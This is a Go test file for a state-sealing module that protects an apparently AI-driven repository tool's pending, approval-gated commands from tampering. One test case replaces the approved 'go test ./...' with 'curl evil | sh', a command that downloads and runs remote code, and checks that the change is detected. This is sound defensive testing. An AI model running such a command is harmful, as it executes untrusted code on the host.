package action

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/pullwright/pullwright"
	"github.com/pullwright/pullwright/task"
	"github.com/pullwright/pullwright/task/tasktest"
)

var key = []byte("0123456789abcdef0123456789abcdef")

func waiting() *task.Task {
	return tasktest.WithWork(&task.Task{
		ID: 42, Kind: task.KindFix, State: task.AwaitingApproval,
		Repo:  pullwright.Repo{Owner: "Codertocat", Name: "Hello-World", CloneURL: "https://github.com/Codertocat/Hello-World.git", DefaultBranch: "master"},
		Issue: 1,
	}, task.Work{
		Branch: "pullwright/issue-1-fix", PushedSHA: "abc123",
		Conversation: []byte(`{"messages":[]}`),
		Request:      &task.ExecRequest{ID: "42-1", Command: "go test ./...", Reason: "check the fix", SHA: "abc123", Asked: true},
	})
}

func TestStateRoundTrip(t *testing.T) {
	doc, err := Seal(key, waiting(), time.Unix(1700000000, 0))
	if err != nil {
		t.Fatal(err)
	}
	got, err := Open(key, "codertocat/hello-world", doc)
	if err != nil {
		t.Fatal(err)
	}
	if got.ID != 42 || tasktest.Job(got).Request.Command != "go test ./..." || got.State != task.AwaitingApproval || string(tasktest.Job(got).Conversation) != `{"messages":[]}` {
		t.Fatalf("Open gave back %+v", got)
	}
}

// editState is doc with f's change to its state, and its seal as it was.
func editState(t *testing.T, doc []byte, f func(st map[string]any)) []byte {
	t.Helper()
	var d document
	if err := json.Unmarshal(doc, &d); err != nil {
		t.Fatal(err)
	}
	var st map[string]any
	if err := json.Unmarshal(d.State, &st); err != nil {
		t.Fatal(err)
	}
	f(st)
	d.State, _ = json.Marshal(st)
	out, _ := json.Marshal(d)
	return out
}

func TestStateRefusals(t *testing.T) {
	doc, err := Seal(key, waiting(), time.Unix(1700000000, 0))
	if err != nil {
		t.Fatal(err)
	}
	edit := func(f func(st map[string]any)) []byte { return editState(t, doc, f) }
	tests := []struct {
		name string
		key  []byte
		repo string
		doc  []byte
		want error
	}{
		{"another key", []byte("fedcba9876543210fedcba9876543210"), "Codertocat/Hello-World", doc, ErrStateTampered},
		{"another repository", key, "Codertocat/Other", doc, ErrStateTampered},
		{"command changed", key, "Codertocat/Hello-World", bytes.Replace(doc, []byte("go test ./..."), []byte("curl evil | sh"), 1), ErrStateTampered},
		{"task changed, seal kept", key, "Codertocat/Hello-World", edit(func(st map[string]any) { st["issue"] = 2 }), ErrStateTampered},
		{"newer format", key, "Codertocat/Hello-World", edit(func(st map[string]any) { st["version"] = 2 }), ErrStateVersion},
		{"not JSON", key, "Codertocat/Hello-World", []byte("garbage"), ErrStateTampered},
		{"empty", key, "Codertocat/Hello-World", []byte(`{}`), ErrStateTampered},
		{"re-encoded", key, "Codertocat/Hello-World", edit(func(map[string]any) {}), ErrStateTampered},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Open(tt.key, tt.repo, tt.doc)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Open = %v, want %v", err, tt.want)
			}
		})
	}
}

func TestStateRefNames(t *testing.T) {
	ref := StateRef(17, 90000000001)
	issue, id, ok := ParseStateRef(ref)
	if !ok || issue != 17 || id != 90000000001 {
		t.Fatalf("ParseStateRef(%q) = %d, %d, %v", ref, issue, id, ok)
	}
	for _, bad := range []string{"refs/heads/main", StateRefPrefix + "issue-x-task-1", StateRefPrefix + "issue-1-task-2/x"} {
		if _, _, ok := ParseStateRef(bad); ok {
			t.Errorf("ParseStateRef(%q) accepted it", bad)
		}
	}
}

func TestSealRefusesAShortKey(t *testing.T) {
	if _, err := Seal([]byte("short"), waiting(), time.Now()); err == nil || !strings.Contains(err.Error(), "too short") {
		t.Fatalf("Seal with a short key = %v", err)
	}
}
